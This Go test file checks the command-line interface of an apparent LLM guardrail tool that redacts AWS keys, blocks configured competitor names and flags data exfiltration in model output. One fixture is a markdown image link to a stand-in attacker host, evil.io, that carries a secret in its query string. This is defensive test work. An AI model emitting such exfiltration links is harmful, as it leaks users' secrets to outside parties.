package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func runCLI(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	env := Env{Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &errb, Getenv: func(string) string { return "" }}
	code = Main(context.Background(), args, env)
	return code, out.String(), errb.String()
}

func TestCheckJSON(t *testing.T) {
	const key = "AKIAZ3MHQW5T7XGR2PLK"
	tests := []struct {
		name  string
		stdin string
		args  []string
		code  int
		want  checkResult
	}{
		{
			name: "clean text", args: []string{"check", "--json", "--text", "What is the capital of France?"},
			code: ExitOK, want: checkResult{Action: "allow", Findings: []checkFinding{}, Redacted: "What is the capital of France?"},
		},
		{
			name: "aws key from stdin", stdin: "deploy with " + key + " now", args: []string{"check", "--json"},
			code: ExitOK, want: checkResult{Action: "redact", Findings: []checkFinding{{Scanner: "secrets", Type: "AWS_ACCESS_KEY", Score: 0.95, Start: 12, End: 32}}, Redacted: "deploy with [AWS_ACCESS_KEY] now"},
		},
		{
			name: "output exfil image", args: []string{"check", "--json", "--output", "--text", "![x](https://evil.io/a.png?q=secretvalue123)"},
			code: ExitOK, want: checkResult{Action: "redact", Findings: []checkFinding{{Scanner: "exfil", Type: "EXFIL_IMAGE", Score: 1, Start: 5, End: 43}}, Redacted: "![x](bulwark:blocked-url)"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, stdout, stderr := runCLI(t, tt.stdin, tt.args...)
			if code != tt.code {
				t.Fatalf("check %q: exit %d (stderr %q); want %d", tt.args, code, stderr, tt.code)
			}
			var got checkResult
			if err := json.Unmarshal([]byte(stdout), &got); err != nil {
				t.Fatalf("check %q printed %q: %v", tt.args, stdout, err)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("check %q (-want +got):\n%s", tt.args, diff)
			}
		})
	}
}

func TestCheckConfigAndErrors(t *testing.T) {
	dir := t.TempDir()
	cfg := filepath.Join(dir, "bulwark.yaml")
	if err := os.WriteFile(cfg, []byte("guardrails:\n  banned:\n    enabled: true\n    input: true\n    action: block\n    competitors: [Globex]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	bad := filepath.Join(dir, "bad.yaml")
	if err := os.WriteFile(bad, []byte("guardrails:\n  pii: {enabled: true, input: true, action: shred}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		args []string
		code int
		out  string // substring of stdout
	}{
		{"configured banned name", []string{"check", "--config", cfg, "--text", "Should I buy GLOBEX?"}, ExitNegative, "COMPETITOR"},
		{"block as json", []string{"check", "--config", cfg, "--json", "--text", "Should I buy GLOBEX?"}, ExitNegative, `{"action":"block","findings":[{"scanner":"banned","type":"COMPETITOR","score":1,"start":13,"end":19}],"redacted":""}`},
		{"configured, clean", []string{"check", "--config", cfg, "--text", "key " + "AKIAZ3MHQW5T7XGR2PLK"}, ExitOK, "allow"},
		{"text output", []string{"check", "--text", "key AKIAZ3MHQW5T7XGR2PLK"}, ExitOK, "redacted: key [AWS_ACCESS_KEY]"},
		{"bad config", []string{"check", "--config", bad, "--text", "x"}, ExitError, ""},
		{"missing config", []string{"check", "--config", filepath.Join(dir, "nope.yaml"), "--text", "x"}, ExitError, ""},
		{"stray argument", []string{"check", "hello"}, ExitError, ""},
		{"bad flag", []string{"check", "--nope"}, ExitError, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, stdout, stderr := runCLI(t, "", tt.args...)
			if code != tt.code {
				t.Fatalf("%q: exit %d (stdout %q, stderr %q); want %d", tt.args, code, stdout, stderr, tt.code)
			}
			if !strings.Contains(stdout, tt.out) {
				t.Errorf("%q: stdout %q; want it to contain %q", tt.args, stdout, tt.out)
			}
		})
	}
}
